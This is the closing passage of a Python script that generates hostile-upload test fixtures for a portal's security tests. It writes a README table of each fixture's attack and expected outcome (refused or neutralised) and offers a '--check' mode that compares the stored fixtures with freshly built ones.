    (folder / "README.md").write_text(readme(entries))


def readme(entries: list[dict[str, object]]) -> str:
    lines = [
        "# Hostile uploads",
        "",
        "Written by `scripts/make_hostile_fixtures.py` (do not edit by hand: change the script and",
        "run it again). `manifest.json` is this table for the tests in `tests/security/`, which",
        "upload every file through every upload path of the portal.",
        "",
        "*Refused*: the upload is turned down with a message (the reason is the code of",
        "`toolkit.logos.LogoError`), nothing is stored, what else was typed stays in the form.",
        "*Neutralised*: the image is accepted and stored re-encoded as a plain PNG: no metadata,",
        "nothing appended, upright.",
        "",
        "| File | Attack | Expected |",
        "| --- | --- | --- |",
    ]
    for entry in entries:
        outcome = str(entry["expect"])
        if entry.get("reason"):
            outcome += f" ({entry['reason']})"
        name = f"`{entry['name']}`"
        if entry["upload_name"] != entry["name"]:
            name += f" sent as `{entry['upload_name']!s}`".replace("\u202e", "U+202E")
        attack = str(entry["attack"])
        if entry.get("pad_to"):
            attack += f" (uploaded padded to {entry['pad_to']} bytes)"
        lines.append(f"| {name} | {attack} | {outcome} |")
    return "\n".join(lines) + "\n"


def differences(folder: Path) -> list[str]:
    """Files that differ between `folder` and what the script writes now."""
    with tempfile.TemporaryDirectory() as scratch:
        fresh = Path(scratch)
        build(fresh)
        names = {path.name for path in fresh.iterdir()} | {
            path.name for path in folder.iterdir() if path.is_file()
        }
        return sorted(
            name
            for name in names
            if not (folder / name).is_file()
            or not (fresh / name).is_file()
            or (folder / name).read_bytes() != (fresh / name).read_bytes()
        )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--check", action="store_true", help="compare, do not write")
    args = parser.parse_args()
    if args.check:
        changed = differences(FOLDER)
        for name in changed:
            print(f"differs: {name}")
        return 1 if changed else 0
    build(FOLDER)
    total = sum(path.stat().st_size for path in FOLDER.iterdir())
    print(f"{len(FILES)} files, {total} bytes in {FOLDER}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
